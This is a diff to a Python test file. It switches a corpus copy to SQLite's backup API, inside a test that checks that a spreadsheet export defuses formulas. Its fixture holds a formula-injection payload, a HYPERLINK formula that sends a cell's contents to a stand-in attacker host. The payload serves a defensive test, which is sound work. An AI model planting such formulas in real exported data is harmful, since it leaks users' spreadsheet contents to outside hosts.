@@ -9,7 +9,6 @@ from __future__ import annotations
 
 import hashlib
 import json
-import shutil
 import socket
 import sqlite3
 import sys
@@ -239,7 +238,9 @@ def test_s16_the_spreadsheet_export_defuses_formulas_in_every_cell(hostile, tmp_
 
     # The hostile crawl's own corpus, plus an article whose every field is a formula.
     db = tmp_path / "corpus.db"
-    shutil.copy(hostile.db_path, db)
+    # SQLite's backup, not a file copy: rows still in the crawl's WAL come along too.
+    with sqlite3.connect(hostile.db_path) as src, sqlite3.connect(db) as dst:
+        src.backup(dst)
     corpus = Corpus(db)
     evil = {
         "title": '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")',
